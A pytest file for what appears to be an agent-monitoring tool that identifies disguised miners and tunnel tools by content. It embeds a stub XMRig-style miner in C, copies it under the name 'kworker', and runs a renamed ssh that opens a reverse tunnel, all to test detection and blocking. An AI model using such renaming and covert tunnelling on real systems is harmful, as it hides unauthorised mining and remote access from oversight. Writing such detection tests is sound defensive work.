"""Identity by content: a miner or tunnel tool under an innocent name, through ld.so, a
shebang or `python -m`, is still what its bytes say (tracer/enrich/exeid.py)."""
from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import textwrap

import orjson
import pytest

from conftest import AGENTTRACE
from agenttrace.enrich.exeid import ExeIdentifier, elf_build_id, load_signatures

PY = sys.executable

# A small real miner: reads its pool from a JSON config (nothing in argv), starts up, logs in
# with xmrig's stratum dialect. Its strings are those the xmrig signature looks for.
MINER_C = r'''
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
static const char *banner = "XMRig/6.21.0 (Linux x86_64) libuv/1.44 gcc/12.2";
static const char *opts = "--donate-level=N  donate level, default 1%%";
int main(int argc, char **argv) {
    const char *cfg = argc > 1 ? argv[1] : "config.json";
    char buf[4096] = {0}, host[64] = {0};
    int port = 0;
    FILE *f = fopen(cfg, "r");
    if (!f) { perror(cfg); return 2; }
    fread(buf, 1, sizeof(buf) - 1, f);
    fclose(f);
    char *u = strstr(buf, "\"url\"");
    if (!u || sscanf(strchr(u, ':') + 1, " \"%63[^:]:%d\"", host, &port) != 2) return 3;
    printf("%s pool %s:%d\n", banner, host, port);
    fflush(stdout);
    usleep(1500000);   /* startup: CPU detection, huge pages, RandomX dataset */
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, host, &a.sin_addr);
    if (connect(s, (struct sockaddr *)&a, sizeof(a)) < 0) { perror("connect"); return 4; }
    struct sockaddr_in me; socklen_t ml = sizeof(me);
    getsockname(s, (struct sockaddr *)&me, &ml);
    printf("%d\n", ntohs(me.sin_port));
    fflush(stdout);
    const char *login = "{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"4Wallet\","
                        "\"pass\":\"x\",\"agent\":\"XMRig/6.21.0\",\"algo\":[\"rx/0\"]}}\n";
    send(s, login, strlen(login), 0);
    struct timeval tv = {3, 0};
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
    int n = recv(s, buf, sizeof(buf) - 1, 0);
    printf("reply %d %s\n", n, opts);
    return 0;
}
'''


@pytest.fixture(scope="module")
def miner(tmp_path_factory):
    if not shutil.which("gcc"):
        pytest.skip("needs gcc to build the test miner")
    d = tmp_path_factory.mktemp("miner")
    (d / "m.c").write_text(MINER_C)
    subprocess.run(["gcc", "-O1", "-o", str(d / "xmrig"), str(d / "m.c")], check=True)
    return d / "xmrig"


def innocent_copy(src, d, name):
    d.mkdir(parents=True, exist_ok=True)
    dst = d / name
    shutil.copyfile(src, dst)
    dst.chmod(0o755)
    return dst


def test_signatures_load_and_bad_entries_name_the_field(tmp_path):
    sigs = load_signatures()
    assert {"xmrig", "openssh-client", "chisel", "sshuttle"} <= {s.name for s in sigs}
    bad = tmp_path / "ids.yaml"
    bad.write_text("identities:\n  - name: x\n    category: miner\n")
    with pytest.raises(ValueError, match=r"identities\[0\]: needs all_of"):
        load_signatures(bad)
    bad.write_text("identities:\n  - name: x\n    strings: [a]\n")
    with pytest.raises(ValueError, match="unknown field"):
        load_signatures(bad)


def test_copied_miner_is_identified_once_per_inode(miner, tmp_path):
    kw = innocent_copy(miner, tmp_path, "kworker")
    ids = ExeIdentifier()
    a = ids._file(lambda: open(kw, "rb"))
    assert (a["name"], a["category"], a["by"]) == ("xmrig", "miner", "strings") and "xmrig" in a["names"]
    out = subprocess.run(["readelf", "-n", str(kw)], capture_output=True, text=True).stdout
    assert a["build_id"] and a["build_id"] == elf_build_id(kw.read_bytes()) and a["build_id"] in out
    assert ids._file(lambda: open(kw, "rb")) is a and ids.stats["cache_hits"] == 1
    # a benign binary has a hash and a build-id, and no name
    b = ids._file(lambda: open("/usr/bin/true", "rb"))
    assert "name" not in b and len(b["sha256"]) == 64
    # ssh under another name is still the OpenSSH client
    s = ids._file(lambda: open(innocent_copy("/usr/bin/ssh", tmp_path, "python3"), "rb"))
    assert s["name"] == "openssh-client" and s["names"] == ["ssh"]


def _exec_recs(sess, pred):
    return [r for r in sess.of("exec") if pred(r)]


def test_live_execs_carry_identity_through_rename_ldso_shebang_and_module(miner, agent_tree, make_session, tmp_path):
    from agenttrace.match.engine import Engine
    from agenttrace.match.rules import default_rule_paths, load_rules
    a = agent_tree.agent("disguised")
    sess = make_session([agent_tree.root], engine=Engine(load_rules(default_rule_paths()), mode="monitor"))
    d = tmp_path / "work"
    kw = innocent_copy(miner, d, "kworker")
    (d / "config.json").write_text(json.dumps({"pools": [{"url": "127.0.0.1:9"}]}))
    ldso = "/lib64/ld-linux-x86-64.so.2"
    script = d / "helper"
    script.write_text("#!/bin/sh\nexit 0\n")
    script.chmod(0o755)
    def run_seen(argv, **kw):
        # the reader sees the exec while the process runs, as it does live
        p = agent_tree.spawn(a, argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, **kw)
        sess.wait_for(lambda: [r for r in sess.of("exec") if r["proc"]["pid"] == p.pid])
        p.wait(timeout=60)
    run_seen([str(kw), str(d / "config.json")], cwd=str(d))
    run_seen([ldso, "./kworker", "config.json"], cwd=str(d))
    run_seen([str(script)])
    # gone before the reader looks: identified from the exec path and the #! line
    agent_tree.run(a, [str(script)])
    agent_tree.run(a, [PY, "-m", "sshuttle", "-r", "u@203.0.113.5", "0/0"])
    want = lambda: (_exec_recs(sess, lambda r: r["proc"].get("identity", {}).get("via") == "module")
                    and len([r for r in sess.of("alert") if r["rule"]["id"] == "mining-binary-exec"]) >= 2)
    if not sess.wait_for(want):
        for r in sess.of("exec"):
            print("EXEC", r["proc"]["args"][:2], r["proc"].get("identity"))
        raise AssertionError([x["rule"]["id"] for x in sess.of("alert")])
    renamed = _exec_recs(sess, lambda r: r["proc"]["exe"] == str(kw))[0]
    assert renamed["proc"]["identity"]["name"] == "xmrig" and renamed["proc"]["comm"] == "kworker"
    via_ld = _exec_recs(sess, lambda r: r["proc"]["args"][:1] == [ldso])[0]
    assert via_ld["proc"]["identity"]["via"] == "ld.so" and via_ld["proc"]["identity"]["name"] == "xmrig"
    shs = _exec_recs(sess, lambda r: r["proc"]["exe"] == str(script))
    assert len(shs) == 2
    for sh in shs:
        assert sh["proc"]["identity"]["via"] == "interpreter" and sh["proc"]["identity"]["target"] == str(script)
        assert "name" not in sh["proc"]["identity"]
    mod = _exec_recs(sess, lambda r: r["proc"].get("identity", {}).get("via") == "module")[0]
    assert mod["proc"]["identity"]["name"] == "sshuttle"
    alerts = sess.of("alert")
    by_pid = {(x["rule"]["id"], x["proc"]["pid"]) for x in alerts}
    assert ("mining-binary-exec", renamed["proc"]["pid"]) in by_pid
    assert ("mining-binary-exec", via_ld["proc"]["pid"]) in by_pid
    assert ("tunnel-tool-exec", mod["proc"]["pid"]) in by_pid
    assert not [x for x in alerts if x["proc"]["pid"] in {sh["proc"]["pid"] for sh in shs}]


@pytest.mark.parametrize("mode", ["monitor", "enforce"])
def test_cli_renamed_miner_with_json_config_and_renamed_ssh(miner, netlab, tmp_path, mode, require_bpf):
    """`agenttrace run` with the default pack: a miner copied to `kworker` that reads its pool
    from config.json, and ssh copied to `update-check` opening a reverse tunnel on port 443."""
    d = tmp_path / "agent"
    kw = innocent_copy(miner, d, "kworker")
    (d / "config.json").write_text(json.dumps({"autosave": True, "cpu": True,
                                               "pools": [{"url": f"{netlab.pool_host}:443", "user": "4Wallet"}]}))
    ssh = innocent_copy("/usr/bin/ssh", d, "update-check")
    rport = 9400 + (mode == "enforce")
    tunnel = netlab.ssh_argv(netlab.ssh_host, 443, "-N", "-R", f"{rport}:127.0.0.1:22", binary=str(ssh))
    # the tunnel runs a few seconds (or until it is stopped), then the script ends it by pid
    script = textwrap.dedent(f"""
        import subprocess, time
        subprocess.run({[str(kw), "config.json"]!r}, cwd={str(d)!r})
        p = subprocess.Popen({tunnel!r}, stdin=subprocess.DEVNULL)
        for _ in range(20):
            if p.poll() is not None:
                break
            time.sleep(0.2)
        if p.poll() is None:
            p.terminate()
        p.wait()
    """)
    out = tmp_path / "events.jsonl"
    before = len(netlab.server_events("stratum"))
    # a name of this suite's own: another suite on the machine running this test at the same
    # time must not share its agent (test_run_agent_lock)
    agent = f"sneaky-{mode}-{os.getpid()}"
    r = subprocess.run([AGENTTRACE, "run", "--mode", mode, "--output", str(out), "--agent", agent,
                        "--netns", netlab.agent_ns, "--", PY, "-c", script], capture_output=True, timeout=240)
    assert r.returncode == 0, r.stderr.decode(errors="replace")[-2000:]
    recs = [orjson.loads(l) for l in out.read_bytes().splitlines()]
    alerts = [x for x in recs if x["kind"] == "alert"]
    execs = {x["proc"]["pid"]: x for x in recs if x["kind"] == "exec"}
    m = [x for x in alerts if x["rule"]["id"] == "mining-binary-exec"]
    assert m and m[0]["proc"]["comm"] == "kworker" and m[0]["proc"]["identity"]["name"] == "xmrig"
    assert m[0]["agent"]["id"] == agent and m[0]["proc"]["pid"] in execs
    t = [x for x in alerts if x["rule"]["id"] == "tunnel-ssh-forwarding"]
    assert t and t[0]["proc"]["comm"] == "update-check" and t[0]["proc"]["identity"]["names"] == ["ssh"]
    pool = [e for e in netlab.server_events("stratum")[before:] if e.get("method") == "login"
            and (e.get("params") or {}).get("login") == "4Wallet"]
    if mode == "enforce":
        assert m[0]["rule"]["outcome"] in ("killed", "exited")
        assert t[0]["rule"]["outcome"] in ("killed", "exited")
        assert not pool, "the pool received the miner's login"
        assert not netlab.server_port_open(netlab.ssh_host, rport)
        assert f"port {rport}" not in netlab.sshd_log()
    else:
        assert m[0]["rule"]["outcome"] == "reported" and t[0]["rule"]["outcome"] == "reported"
        assert pool, "monitor mode lets the miner log in"
        flows = [x for x in alerts if x["rule"]["id"] == "mining-stratum-flow"]
        assert flows and flows[0]["proc"]["pid"] == m[0]["proc"]["pid"]
